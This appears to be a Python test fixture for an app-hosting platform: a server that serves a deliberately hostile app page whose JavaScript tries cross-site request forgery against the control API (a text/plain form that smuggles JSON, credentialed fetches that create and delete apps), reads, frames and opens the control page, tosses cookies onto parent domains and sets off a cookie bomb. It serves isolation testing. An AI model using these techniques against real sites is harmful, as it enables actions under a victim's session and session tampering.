"""An app that turns against who opens it: its page drives the control page by form, fetch, frame, popup and cookies, and
writes down what came of it. For tests; the page's query says where the control page is and which app is the victim."""
import http.server

PAGE = b"""<!doctype html>
<html lang="en"><meta charset="utf-8"><title>Hostile</title>
<iframe name="sink" id="sink"></iframe>
<iframe id="frame"></iframe>
<script src="/attack.js"></script>
</html>"""

ATTACK = """
const { searchParams } = new URL(location);
const control = searchParams.get("control");
const order = (name) => ({ name, repository: searchParams.get("repository"), start_command: "python app.py", port: 7860 });
const name = searchParams.get("name");
const outcomes = {};
window.outcomes = outcomes;

const attempts = {
    async form() {
        // A form can send anything as text: the field's name and value around "=" make a JSON document.
        const form = document.createElement("form");
        Object.assign(form, { method: "post", action: `${control}/api/apps`, enctype: "text/plain", target: "sink" });
        const [before, after] = JSON.stringify({ ...order(`${name}-form`), start_command: "=" }).split("=");
        const field = Object.assign(document.createElement("input"), { name: before, value: after });
        form.append(field);
        document.body.append(form);
        const loaded = new Promise((resolve) => document.getElementById("sink").addEventListener("load", resolve, { once: true }));
        form.submit();
        await loaded;
        return document.getElementById("sink").contentDocument ? "readable" : "unreadable";
    },
    async fetchJSON() {
        const headers = { "Content-Type": "application/json", "X-DCC": "1" };
        const body = JSON.stringify(order(`${name}-json`));
        return (await fetch(`${control}/api/apps`, { method: "POST", credentials: "include", headers, body })).status;
    },
    async fetchText() {
        const body = JSON.stringify(order(`${name}-text`));
        return (await fetch(`${control}/api/apps`, { method: "POST", mode: "no-cors", credentials: "include", body })).type;
    },
    async fetchDelete() {
        const headers = { "Content-Type": "application/json", "X-DCC": "1" };
        return (await fetch(`${control}/api/apps/${name}`, { method: "DELETE", credentials: "include", headers, body: "{}" })).status;
    },
    async read() {
        return (await fetch(`${control}/api/apps`, { credentials: "include" })).text();
    },
    async script() {
        const script = Object.assign(document.createElement("script"), { src: `${control}/shell/app.js` });
        return new Promise((resolve) => {
            script.onload = () => resolve("loaded");
            script.onerror = () => resolve("refused");
            document.body.append(script);
        });
    },
    async frame() {
        const frame = document.getElementById("frame");
        const loaded = new Promise((resolve) => frame.addEventListener("load", resolve, { once: true }));
        frame.src = `${control}/`;
        await loaded;
        return frame.contentDocument ? "readable" : "unreadable";
    },
    async popup() {
        const popup = window.open(`${control}/`);
        await new Promise((resolve) => setTimeout(resolve, 2000));
        return popup === null || popup.closed ? "cut off" : "held";
    },
    async cookies() {
        const parents = ["", "; domain=apps.localhost", "; domain=localhost", "; domain=.localhost"];
        for (const parent of parents) {
            for (const cookie of ["__Host-dcc=tossed", "_oauth2_proxy=tossed", "tossed=by-script"]) {
                document.cookie = `${cookie}; path=/; secure${parent}`;
            }
        }
        return document.cookie;
    },
};

(async () => {
    for (const [attempt, run] of Object.entries(attempts)) {
        outcomes[attempt] = await run().catch((error) => error.name);
    }
    window.over = true;
})();
"""

# With an icon of its own: asking for one would already bring the cure.
BOMB = b"""<!doctype html><title>Bomb</title><link rel="icon" href="data:,"><script>
const long = "x".repeat(3000);
for (let number = 0; number < 20; number += 1) document.cookie = `bomb${number}=${long}; path=/; secure; domain=apps.localhost`;
window.over = true;
</script>"""


class Hostile(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        path = self.path.partition("?")[0]
        body = {"/attack.js": ATTACK.encode(), "/bomb": BOMB}.get(path, PAGE)
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if path == "/attack.js" else "text/html")
        self.send_header("Content-Length", str(len(body)))
        # Each of these would reach further than the app's own name.
        for parent in ("apps.localhost", ".apps.localhost", "localhost"):
            self.send_header("Set-Cookie", f"answered=tossed; Domain={parent}; Path=/; Secure; HttpOnly")
            self.send_header("Set-Cookie", f"_oauth2_proxy=answered; Domain={parent}; Path=/; Secure; HttpOnly")
        self.send_header("Clear-Site-Data", '"cookies"')
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


http.server.ThreadingHTTPServer(("0.0.0.0", 7860), Hostile).serve_forever()
